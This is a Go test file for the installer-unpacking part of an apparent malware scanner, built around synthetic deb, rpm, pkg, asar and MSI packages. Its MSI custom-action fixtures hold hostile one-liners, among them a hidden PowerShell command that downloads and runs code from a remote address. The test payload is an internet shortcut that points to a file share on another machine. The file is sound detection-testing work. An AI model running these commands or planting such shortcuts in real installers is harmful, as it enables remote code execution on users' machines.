package installer

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/sekisho/sekisho"
	"github.com/sekisho/sekisho/checkpoint"
	detector "github.com/sekisho/sekisho/detector/shortcut"
	"github.com/sekisho/sekisho/judge"
	"github.com/sekisho/sekisho/opener/archive"
	"github.com/sekisho/sekisho/opener/file"
	"github.com/sekisho/sekisho/opener/shortcut"
	"github.com/sekisho/sekisho/rules"
	"github.com/sekisho/sekisho/worker"
)

func TestMain(m *testing.M) {
	worker.Main([]*sekisho.Opener{Opener, archive.Opener}, os.Stdin, os.Stdout)
	os.Exit(m.Run())
}

// payload is inert: a shortcut of the web that leads to another machine.
const (
	payloadName = "plan.url"
	payload     = "[InternetShortcut]\r\nURL=file://192.0.2.7/share/plan.exe\r\n"
)

func zlibOf(t testing.TB, data []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, err := w.Write(data)
	if err := errors.Join(err, w.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func gzipOf(t testing.TB, data []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, err := w.Write(data)
	if err := errors.Join(err, w.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// cpioOf writes an archive of newc with the payload.
func cpioOf() []byte {
	var b bytes.Buffer
	for _, f := range []struct{ name, data string }{{"./" + payloadName, payload}, {"TRAILER!!!", ""}} {
		fmt.Fprintf(&b, "070701%08X%08X%s%08X%s%08X%08X", 1, cpioMode, strings.Repeat("0", 32), len(f.data), strings.Repeat("0", 32), len(f.name)+1, 0)
		b.WriteString(f.name + "\x00")
		for b.Len()%4 != 0 {
			b.WriteByte(0)
		}
		b.WriteString(f.data)
		for b.Len()%4 != 0 {
			b.WriteByte(0)
		}
	}
	return b.Bytes()
}

const cpioMode = 0o100644

func arOf(name string, data []byte) []byte {
	out := fmt.Appendf(nil, "!<arch>\n%-16s%-12d%-6d%-6d%-8s%-10d`\n", "debian-binary", 0, 0, 0, "100644", 4)
	out = append(out, "2.0\n"...)
	out = fmt.Appendf(out, "%-16s%-12d%-6d%-6d%-8s%-10d`\n", name, 0, 0, 0, "100644", len(data))
	return append(out, data...)
}

func rpmOf(t testing.TB, script string) []byte {
	t.Helper()
	lead := make([]byte, rpmLead)
	copy(lead, "\xED\xAB\xEE\xDB\x03")
	header := func(tags map[uint32]string) []byte {
		var index, data []byte
		for _, tag := range []uint32{1024, rpmCompressor} {
			if value := tags[tag]; value != "" {
				for _, word := range []uint32{tag, 6, uint32(len(data)), 1} {
					index = binary.BigEndian.AppendUint32(index, word)
				}
				data = append(append(data, value...), 0)
			}
		}
		head := append([]byte("\x8E\xAD\xE8\x01\x00\x00\x00\x00"), binary.BigEndian.AppendUint32(nil, uint32(len(index)/16))...)
		return append(append(binary.BigEndian.AppendUint32(head, uint32(len(data))), index...), data...)
	}
	return bytes.Join([][]byte{lead, header(nil), header(map[uint32]string{1024: script, rpmCompressor: "gzip"}), gzipOf(t, cpioOf())}, nil)
}

func xarOf(t testing.TB, toc string, heap []byte) []byte {
	t.Helper()
	packed := zlibOf(t, []byte(toc))
	head := make([]byte, 28)
	copy(head, "xar!\x00\x1C\x00\x01")
	binary.BigEndian.PutUint64(head[8:], uint64(len(packed)))
	binary.BigEndian.PutUint64(head[16:], uint64(len(toc)))
	return bytes.Join([][]byte{head, packed, heap}, nil)
}

func pkgOf(t testing.TB) []byte {
	heap := gzipOf(t, cpioOf())
	return xarOf(t, fmt.Sprintf(`<xar><toc><file id="1"><name>a.pkg</name><type>directory</type><file id="2"><name>Payload</name><type>file</type>`+
		`<data><length>%d</length><offset>0</offset><encoding style="application/octet-stream"/></data></file></file></toc></xar>`, len(heap)), heap)
}

func asarOf() []byte {
	header := fmt.Sprintf(`{"files":{"app":{"files":{%q:{"size":%d,"offset":"0"}}},"out":{"unpacked":true,"size":1}}}`, payloadName, len(payload))
	var b []byte
	size := (len(header) + 3) / 4 * 4
	for _, word := range []int{4, size + 8, size + 4, len(header)} {
		b = binary.LittleEndian.AppendUint32(b, uint32(word))
	}
	b = append(b, header...)
	return append(append(b, make([]byte, size-len(header))...), payload...)
}

// A stream is one of a compound file.
type stream struct {
	name string
	data []byte
}

// msiOf writes a compound file of the class of installers, in which every stream has sectors of its own.
func msiOf(streams ...stream) []byte {
	const sector = 512
	if len(streams) == 0 {
		streams = []stream{{"Binary.plan", []byte(payload + strings.Repeat("\r\n", 2048))}}
	}
	folders := (len(streams) + 4) / 4
	var data []byte
	table := bytes.Repeat([]byte{0xFF}, sector)
	binary.LittleEndian.PutUint32(table, 0xFFFFFFFD)
	used := uint32(1)
	chain := func(sectors int) (first uint32) {
		first = used
		for i := range sectors {
			next := used + 1
			if i == sectors-1 {
				next = 0xFFFFFFFE
			}
			binary.LittleEndian.PutUint32(table[4*used:], next)
			used++
		}
		return first
	}
	chain(folders)
	head := make([]byte, sector)
	copy(head, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
	for at, value := range map[int]uint16{24: 0x3E, 26: 3, 28: 0xFFFE, 30: 9, 32: 6} {
		binary.LittleEndian.PutUint16(head[at:], value)
	}
	for at, value := range map[int]uint32{44: 1, 48: 1, 56: 4096, 60: 0xFFFFFFFE, 68: 0xFFFFFFFE} {
		binary.LittleEndian.PutUint32(head[at:], value)
	}
	for at := 76; at < sector; at += 4 {
		binary.LittleEndian.PutUint32(head[at:], 0xFFFFFFFF)
	}
	binary.LittleEndian.PutUint32(head[76:], 0)
	folder := make([]byte, folders*sector)
	record := func(n int, name string, kind byte) []byte {
		r := folder[128*n : 128*(n+1)]
		units := utf16.Encode([]rune(name))
		for i, u := range units {
			binary.LittleEndian.PutUint16(r[2*i:], u)
		}
		binary.LittleEndian.PutUint16(r[64:], uint16(2*len(units)+2))
		r[66], r[67] = kind, 1
		copy(r[68:], bytes.Repeat([]byte{0xFF}, 12))
		return r
	}
	root := record(0, "Root Entry", 5)
	binary.LittleEndian.PutUint32(root[76:], 1)
	copy(root[80:], "\x84\x10\x0C\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
	binary.LittleEndian.PutUint32(root[116:], 0xFFFFFFFE)
	for i, s := range streams {
		r := record(i+1, s.name, 2)
		if i+1 < len(streams) {
			binary.LittleEndian.PutUint32(r[72:], uint32(i+2)) // its sibling to the right
		}
		sectors := (max(len(s.data), 4096) + sector - 1) / sector
		binary.LittleEndian.PutUint32(r[116:], chain(sectors))
		binary.LittleEndian.PutUint32(r[120:], uint32(len(s.data)))
		data = append(append(data, s.data...), make([]byte, sectors*sector-len(s.data))...)
	}
	return bytes.Join([][]byte{head, table, folder, data}, nil)
}

// tableName packs the name of a table as Windows Installer does.
func tableName(name string) string {
	packed := []rune{0x4840}
	for ; len(name) > 1; name = name[2:] {
		packed = append(packed, rune(0x3800+strings.IndexByte(streamAlphabet, name[0])+strings.IndexByte(streamAlphabet, name[1])<<6))
	}
	if name != "" {
		packed = append(packed, rune(0x4800+strings.IndexByte(streamAlphabet, name[0])))
	}
	return string(packed)
}

// tablesOf writes the tables of a database with the actions. Streams under 4,096 bytes would lie elsewhere, so that each is
// filled up: strings with one that nothing refers to, tables with rows of nothing.
func tablesOf(actions ...action) []stream {
	var pool, data []byte
	ids := map[string]int{}
	add := func(s string) {
		ids[s] = len(ids) + 1
		pool = binary.LittleEndian.AppendUint16(pool, uint16(len(s)))
		pool = binary.LittleEndian.AppendUint16(pool, 1)
		data = append(data, s...)
	}
	id := func(s string) int {
		if s == "" {
			return 0
		}
		if ids[s] == 0 {
			add(s)
		}
		return ids[s]
	}
	type row []int
	columns := []row{}
	for i, c := range []struct {
		name string
		kind int
	}{{"Action", 0x2D48}, {"Type", 0x0502}, {"Source", 0x1D48}, {"Target", 0x1DFF}} {
		columns = append(columns, row{id("CustomAction"), 0x8000 + i + 1, id(c.name), 0x8000 + c.kind})
	}
	var rows []row
	for _, a := range actions {
		rows = append(rows, row{id(a.name), 0x8000 + a.kind, id(a.source), id(a.target)})
	}
	table := func(rows []row) []byte {
		for len(rows)*8 < 4096 {
			rows = append(rows, row{0, 0, 0, 0})
		}
		var b []byte
		for c := range 4 {
			for _, r := range rows {
				b = binary.LittleEndian.AppendUint16(b, uint16(r[c]))
			}
		}
		return b
	}
	add(strings.Repeat("x", 5000))
	head := append([]byte{0xE4, 4, 0, 0}, pool...)
	head = append(head, make([]byte, max(0, 4096-len(head)))...)
	return []stream{{tableName("_StringPool"), head}, {tableName("_StringData"), data}, {tableName("_Columns"), table(columns)}, {tableName("CustomAction"), table(rows)}}
}

// TestCustomActions finds what installing runs, by the names of files that tell how.
func TestCustomActions(t *testing.T) {
	streams := tablesOf(
		action{"Update", "TARGETDIR", `powershell.exe -w hidden -c "iex (iwr http://198.51.100.7/a)"`, exeInDirectory | 0xC00},
		action{"Check", "", `CreateObject("WScript.Shell").Run "calc"`, vbsInTable},
		action{"Old", "plan", "", jsInBinary},
		action{"SetFolder", "INSTALLDIR", "[ProgramFilesFolder]App", setProperty},
		action{"SetQuiet", "WixQuietExecCmdLine", `"[SystemFolder]cmd.exe" /c start x`, setProperty},
	)
	streams = append(streams, stream{"Binary.plan", []byte("var a = 1;" + strings.Repeat(" ", 4096))})
	a, err := open(t, "application/x-ms-installer", msiOf(streams...), sekisho.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"CustomAction.cmd":       "rem Update\r\npowershell.exe -w hidden -c \"iex (iwr http://198.51.100.7/a)\"\r\nrem SetQuiet\r\n\"[SystemFolder]cmd.exe\" /c start x\r\n",
		"CustomAction/Check.vbs": `CreateObject("WScript.Shell").Run "calc"`,
		"Binary.plan.js":         "var a = 1;",
	}
	for part := range a.All() {
		text, ok := want[part.Name]
		if !ok {
			continue
		}
		delete(want, part.Name)
		content := make([]byte, part.Size)
		if _, err := part.Blob.ReadAt(content, 0); err != nil || strings.TrimRight(string(content), " ") != text {
			t.Errorf("%s holds %q, %v; want %q", part.Name, content, err, text)
		}
	}
	if len(want) > 0 {
		t.Errorf("not found: %v", want)
	}
}

// TestTablesAreBounded reads tables that say more than they hold.
func TestTablesAreBounded(t *testing.T) {
	for name, d := range map[string]*database{
		"a string beyond the data":   {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0, 9, 0, 1, 0}, "_StringData": []byte("abc")}},
		"a long string cut off":      {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0, 0, 0, 1, 0}}},
		"half a row":                 {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0}, "_Columns": make([]byte, 9)}},
		"half a row of long strings": {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0x80}, "_Columns": make([]byte, 16)}},
	} {
		if actions, err := d.actions(); len(actions) > 0 || err == nil {
			t.Errorf("%s: %v, %v", name, actions, err)
		}
	}
}

// TestHostile finds the shortcut in every kind of installer, through the checkpoint and the rules of shortcuts.
func TestHostile(t *testing.T) {
	set, err := rules.Load(os.DirFS("../../detector/shortcut"))
	if err != nil {
		t.Fatal(err)
	}
	detectors := []*sekisho.Detector{detector.Detector}
	j, err := judge.Compile(set.Rules, nil, detectors)
	if err != nil {
		t.Fatal(err)
	}
	pool := worker.New(1, worker.Limits{})
	t.Cleanup(pool.Close)
	openers := []*sekisho.Opener{file.Opener, archive.Opener, Opener, shortcut.Opener}
	cp, err := checkpoint.New(checkpoint.Config{Openers: openers, Detectors: detectors, Judge: j, Isolate: pool.Open})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, format string
		data         []byte
	}{
		{"deb", "deb", arOf("data.cpio.gz", gzipOf(t, cpioOf()))}, {"rpm", "rpm", rpmOf(t, "echo")}, {"pkg", "pkg", pkgOf(t)}, {"asar", "asar", asarOf()}, {"msi", "msi", msiOf()},
	} {
		t.Run(tt.name, func(t *testing.T) {
			verdict := cp.Inspect(t.Context(), &sekisho.Artifact{Kind: sekisho.KindFile, Name: "setup." + tt.name, Blob: bytes.NewReader(tt.data), Size: int64(len(tt.data))})
			if verdict.Action != sekisho.ActionHold || verdict.Findings[0].Rule != "shortcut-to-other-machine" || len(verdict.Gaps) > 0 {
				t.Fatalf("%s by %v; gaps %v; %+v", verdict.Action, verdict.Findings, verdict.Gaps, verdict.Root.Form)
			}
			if form := verdict.Root.Parts[0].Form.(*sekisho.Archive); form.Format != tt.format || form.Entries == 0 {
				t.Errorf("form %+v, want %s", form, tt.format)
			}
		})
	}
}

func open(t testing.TB, media string, data []byte, limits sekisho.Limits) (*sekisho.Artifact, error) {
	t.Helper()
	a := &sekisho.Artifact{ID: "0", Kind: sekisho.KindFile, Name: "a", Form: &sekisho.File{Type: media}, Blob: bytes.NewReader(data), Size: int64(len(data))}
	err := Opener.Run(t.Context(), a, sekisho.NewBudget(limits))
	return a, err
}

func TestBounds(t *testing.T) {
	entry := `<file><name>a</name><type>file</type><data><length>10000</length><offset>0</offset><encoding style="application/x-gzip"/></data></file>`
	bomb := zlibOf(t, make([]byte, 16<<20))
	for _, tt := range []struct {
		name, media string
		data        []byte
		want        error
	}{
		{"an entry that grows", "application/x-xar", xarOf(t, "<xar><toc>"+entry+"</toc></xar>", bomb), sekisho.ErrLimit},
		{"entries over one another", "application/x-xar", xarOf(t, "<xar><toc>"+strings.Repeat(entry, 1000)+"</toc></xar>", bomb), sekisho.ErrLimit},
		{"a table of contents that grows", "application/x-xar", xarOf(t, strings.Repeat(" ", 17<<20), nil), sekisho.ErrLimit},
		{"folders without end", "application/x-xar", xarOf(t, strings.Repeat("<file>", 20_000), nil), sekisho.ErrLimit},
		{"folders without end in asar", "application/x-asar", deepAsar(), sekisho.ErrLimit},
		{"a header too large", "application/x-rpm", append(make([]byte, rpmLead), "\x8E\xAD\xE8\x01\x00\x00\x00\x00\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF"...), sekisho.ErrLimit},
		{"an entry longer than the file", "application/vnd.debian.binary-package", arOf("data.tar", nil)[:8+60+2], sekisho.ErrMalformed},
	} {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			_, err := open(t, tt.media, tt.data, sekisho.Limits{Bytes: 20 << 20, Entry: 8 << 20})
			if !errors.Is(err, tt.want) {
				t.Errorf("error %v, want %v", err, tt.want)
			}
			if took := time.Since(start); took > 2*time.Second {
				t.Errorf("took %v", took)
			}
		})
	}
}

func deepAsar() []byte {
	header := strings.Repeat(`{"files":{"a":`, 1000) + "{}" + strings.Repeat("}}", 1000)
	var b []byte
	for _, word := range []int{4, len(header) + 8, len(header) + 4, len(header)} {
		b = binary.LittleEndian.AppendUint32(b, uint32(word))
	}
	return append(b, header...)
}

func TestStreamName(t *testing.T) {
	for packed, want := range map[string]string{"\u4840\u3F3F\u4577\u446C\u3E6A\u44B2\u482F": "_StringPool", "Binary.a": "Binary.a"} {
		if got, table := streamName(packed); got != want || table != (want[0] == '_') {
			t.Errorf("%q is %q (table %v), want %q", packed, got, table, want)
		}
	}
}

func FuzzOpenNeverExceedsBudget(f *testing.F) {
	for i, data := range [][]byte{msiOf(tablesOf(action{"A", "", "x", vbsInTable})...), arOf("data.tar", []byte("x")), nil, rpmOf(f, "echo"), pkgOf(f), asarOf()} {
		f.Add(i, data)
	}
	f.Fuzz(func(t *testing.T, kind int, data []byte) {
		limits := sekisho.Limits{Bytes: 1 << 20, Entry: 1 << 18, Parts: 50}
		a, _ := open(t, Opener.Types[uint(kind)%uint(len(Opener.Types))], data, limits)
		parts, bytes := -1, int64(0)
		for part := range a.All() {
			parts++
			if part != a {
				bytes += part.Size
			}
		}
		if parts > limits.Parts || bytes > limits.Bytes {
			t.Errorf("%d parts, %d bytes", parts, bytes)
		}
	})
}

func BenchmarkAsar(b *testing.B) {
	data := asarOf()
	for b.Loop() {
		if _, err := open(b, "application/x-asar", data, sekisho.Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}
